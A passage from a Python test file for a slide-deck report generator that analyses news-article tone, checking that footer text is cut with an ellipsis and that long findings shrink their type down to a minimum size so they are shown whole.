    assert box.paragraphs == [long] and 8.0 <= box.size < 11.0
    assert foot("Korpus · 2025 · 5 Artikel").size == 11.0
    # Longer than three lines hold even at 8 pt: cut with "…", never past the slide's edge.
    cut = foot(long * 3)
    assert cut.size == 8.0 and cut.paragraphs[0].endswith("…") and box.y + box.h <= 540


def test_six_long_findings_are_shown_whole_on_their_slide_in_smaller_type():
    """At 101,000 articles six findings of two to three lines each at 17 pt lost the last one's
    numbers to "(2,747 vs…)". The slide's type gets smaller (not below FINDINGS_MIN_SIZE) until
    every finding is whole; three short ones keep 20 pt."""
    from tonlage.report.deck.plan import FINDINGS_MIN_SIZE, TextBox, plan_slides

    long = (
        "(!) Of the 12 sources with at least 3 articles and 5 scored sentences in view, none differs "
        "clearly in tone from the rest: the largest gap, Zeitung L at −0.01 against 0.00 for the "
        "others (2,747 vs 98,253 articles), may be chance: its 95% interval, −0.01 … 0.00, includes 0. "
        "The interval is wider because 12 sources were compared at once."
    )
    findings = [long.replace("Zeitung L", f"Zeitung {c}") for c in "ABCDEF"]

    def findings_box(found) -> TextBox:
        slides = plan_slides(make_pack(charts=[], quotes=[], findings=found))
        return next(i for i in slides[1].items if isinstance(i, TextBox) and i.bullets)

    box = findings_box(findings)
    assert box.paragraphs == findings  # each whole, none cut to "…"
    assert FINDINGS_MIN_SIZE <= box.size < 17.0
    short = findings_box(["Kommentare sind negativer als Berichte.", "Nach dem Gipfel wird der Ton freundlicher."])
    assert short.size == 20.0 and short.paragraphs == [
        "Kommentare sind negativer als Berichte.",
        "Nach dem Gipfel wird der Ton freundlicher.",
    ]
